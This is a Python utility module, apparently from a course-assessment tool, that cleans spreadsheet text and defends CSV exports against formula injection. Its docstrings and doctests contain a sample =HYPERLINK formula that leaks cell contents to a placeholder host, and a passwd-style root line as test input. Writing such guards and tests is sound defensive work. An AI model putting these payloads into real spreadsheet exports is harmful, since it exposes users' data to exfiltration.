r"""Text in sheets: what a cell may hold, formula-looking text in CSV, and text in messages.

* :func:`clean_line` is :func:`~losi_course.assessment.clean_text` for one-line details
  (city, country, assessor, date): line breaks and runs of spaces become one space.
* :func:`guard_formula` / :func:`unguard_formula`: a spreadsheet opening a CSV file runs a
  cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK(...)`` can send
  the sheet's contents to a web site). The CSV writer puts an apostrophe in front of such a
  cell, which spreadsheets show as text; the reader takes it away again, so the course reads
  back exactly what was written (and the form shows it unchanged).
* :func:`cleaning_note` tells a user what cleaning did to their text.
* :func:`quoted` shows a piece of a file in an error message: short, on one line, without
  control characters (a message must not print the first line of whatever a link points to).

Example:
    >>> guard_formula('=HYPERLINK("http://x.example/?"&A1,"x")')
    '\'=HYPERLINK("http://x.example/?"&A1,"x")'
    >>> unguard_formula(guard_formula("-5 points")), unguard_formula("'tis fine")
    ('-5 points', "'tis fine")
"""

from __future__ import annotations

from ..assessment import TEXT_LIMIT, clean_text

__all__ = ["clean_line", "guard_formula", "unguard_formula", "cleaning_note", "quoted", "FORMULA_STARTS"]

#: What makes a spreadsheet treat a CSV cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def clean_line(value: object) -> str:
    r"""A one-line detail (city, assessor...) that every sheet format holds and reads back.

    Example:
        >>> clean_line(" Velmora\n(fictional)\x01 ")
        'Velmora (fictional)'
    """
    return " ".join(clean_text(value).split())


def _needs_guard(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS)


def guard_formula(text: str) -> str:
    """A CSV cell that no spreadsheet runs as a formula (see the module notes).

    Text that starts with apostrophes before a formula sign gets one more, so that
    :func:`unguard_formula` always gives the original back.

    Example:
        >>> guard_formula("@SUM(A1)"), guard_formula("'=x"), guard_formula("plain")
        ("'@SUM(A1)", "''=x", 'plain')
    """
    return "'" + text if _needs_guard(text) else text


def unguard_formula(text: str) -> str:
    """The text that :func:`guard_formula` protected; any other text unchanged.

    Example:
        >>> unguard_formula("'@SUM(A1)"), unguard_formula("''=x"), unguard_formula("'quoted'")
        ('@SUM(A1)', "'=x", "'quoted'")
    """
    return text[1:] if text.startswith("'") and _needs_guard(text[1:]) else text


def cleaning_note(what: str, original: object, cleaned: str) -> str:
    r"""One sentence telling what cleaning changed in a text (``""`` if nothing that matters).

    Example:
        >>> cleaning_note("The note of 281", "a\x00b", "ab")
        'The note of 281 was saved without 1 character that a sheet cannot hold (control or invalid characters).'
        >>> cleaning_note("The note", "x" * 40_000, "x" * 32_767)[:60]
        'The note was shortened to 32,767 characters, the most a spre'
        >>> cleaning_note("The note", "  same ", "same")
        ''
    """
    text = "" if original is None else str(original)
    if " ".join(text.split()) == " ".join(cleaned.split()):
        return ""
    whole = clean_text(text, limit=None)
    removed = len(" ".join(text.split())) - len(" ".join(whole.split()))
    shortened = len(whole) > len(cleaned)
    without = (f"without {removed} character{'s' if removed > 1 else ''} that a sheet cannot hold "
               "(control or invalid characters)")
    shorter = f"shortened to {TEXT_LIMIT:,} characters, the most a spreadsheet cell holds"
    if removed > 0 and shortened:
        return f"{what} was saved {without} and {shorter}."
    if removed > 0:
        return f"{what} was saved {without}."
    return f"{what} was {shorter}." if shortened else ""


def quoted(value: object, width: int = 40) -> str:
    """A piece of a file for an error message: in quotes, on one line, at most ``width`` characters.

    Example:
        >>> quoted("maybe"), quoted("root:x:0:0:root:/root:/bin/bash" * 3)
        ("'maybe'", "'root:x:0:0:root:/root:/bin/bashroot:x:0…'")
    """
    text = " ".join(clean_text(value, limit=None).split())
    if len(text) > width:
        text = text[:width - 1].rstrip() + "…"
    return f"'{text}'"
